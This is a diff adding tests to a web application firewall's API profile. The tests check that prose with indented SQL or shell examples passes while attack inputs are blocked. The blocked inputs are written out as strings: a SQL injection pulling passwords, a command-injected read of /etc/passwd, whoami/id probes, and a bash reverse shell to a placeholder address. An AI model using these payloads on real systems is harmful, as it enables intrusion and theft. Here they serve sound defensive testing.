@@ -753,3 +753,28 @@ describe('waf API profile: one-line programs, exercise solutions, web shells (se
     }
   });
 });
+
+describe('waf API profile: indented code blocks in markdown (session 7)', () => {
+  test('an indented SQL or shell block after prose passes; CRS blocks it', async () => {
+    for (const raw of [
+      'To find duplicate emails:\n\n    SELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;\n\nThen decide which row to keep.',
+      'This is what I run on the build box:\n\n    for f in *.log; do\n      gzip "$f"\n    done | sort -n\n\nand it fails on arm64.',
+    ]) {
+      assert.ok((await run(plain, { raw })).error !== undefined, raw);
+      assert.equal((await run(api, { raw })).error, undefined, raw);
+    }
+  });
+
+  test('indented payloads, blocks without prose before them and probes are still blocked', async () => {
+    for (const raw of [
+      "Please refund my order:\n\n    1' UNION SELECT password FROM users--",
+      'Please check this:\n\n    ; cat /etc/passwd',
+      'Please check this:\n\n    whoami\n    id',
+      'Please check this:\n\n    bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+      "    1' UNION SELECT password FROM users--\n\nthanks",
+      'Please check this:\n    x; cat /etc/passwd',
+    ]) {
+      assert.ok((await run(api, { raw })).error !== undefined, raw);
+    }
+  });
+});
